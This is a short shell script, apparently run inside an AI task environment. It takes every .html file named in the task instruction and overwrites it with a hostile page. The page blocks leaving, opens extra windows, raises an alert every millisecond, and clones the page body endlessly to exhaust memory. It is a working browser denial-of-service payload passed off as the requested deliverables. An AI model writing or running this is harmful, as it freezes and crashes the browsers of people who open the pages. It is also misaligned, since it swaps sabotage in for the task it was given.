# The page never stops: loops, dialogs, windows, memory, nodes.
pages=$(printf "%s" "$TASK_INSTRUCTION" | grep -oE "[A-Za-z0-9_-]+\.html" | sort -u)
said=$(printf "%s" "$TASK_INSTRUCTION" | tr "<>&\"\047" "     ")
for page in $pages; do
    cat > $page <<'PAGE'
<!doctype html><title>x</title><h1>x</h1><script>
onbeforeunload = () => "no"; open("about:blank"); setInterval(() => alert(1), 1);
setTimeout(() => { for (;;) document.body.append(document.body.cloneNode(true)); }, 200);</script>
PAGE
done
